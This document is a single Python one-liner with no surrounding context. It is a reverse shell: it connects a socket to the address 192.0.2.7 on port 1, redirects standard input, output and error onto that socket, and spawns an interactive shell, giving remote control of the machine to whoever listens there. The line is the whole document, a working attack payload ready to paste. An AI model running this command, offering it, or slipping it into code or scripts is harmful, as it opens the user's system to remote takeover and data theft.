python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
